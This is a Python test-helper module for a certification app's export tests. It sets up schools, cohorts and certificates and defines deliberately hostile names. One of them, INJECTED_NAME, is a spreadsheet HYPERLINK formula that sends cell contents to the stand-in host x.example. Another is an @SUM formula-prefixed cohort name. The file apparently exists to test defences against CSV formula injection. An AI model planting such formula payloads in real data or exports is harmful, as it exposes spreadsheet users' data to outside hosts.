"""Helpers the export tests share: a world of schools, cohorts and certificates with hostile names."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field

from django.utils import timezone

INJECTED_NAME = '=HYPERLINK("http://x.example/?"&A1)'


INJECTED_COHORT = "@SUM(1+1) cohort"


@dataclass
class World:
    school_a: object
    school_b: object
    coordinator_a: object
    coordinator_b: object
    staff: object
    cohort_a: object
    cohort_b: object
    certificates: dict = field(default_factory=dict)  # username -> Certificate row
    enrollments: dict = field(default_factory=dict)  # username -> enrollment id

    def number(self, username: str) -> str:
        return self.certificates[username].number


def _certificate(user, enrollment_id, *, number, hours=12.5, status="active"):
    from xblocks.certification import chain, models  # pylint: disable=import-outside-toplevel

    enrollment = models.Enrollment.objects.get(pk=enrollment_id)
    cert = models.Certificate.objects.create(
        number=number,
        user=user,
        track_version=enrollment.track_version,
        enrollment=enrollment,
        cohort=enrollment.cohort,
        status=status,
        issued_at=timezone.now(),
        valid_from=dt.date(2026, 6, 30),
        valid_until=dt.date(2028, 6, 30),
        hours_total=hours,
        hours_by_category={"ethics": 3.0},
        hours_by_source={"school": hours},
    )
    chain.append(cert, kind="issued", status="active", reason="Every requirement met", actor="system")
    return cert
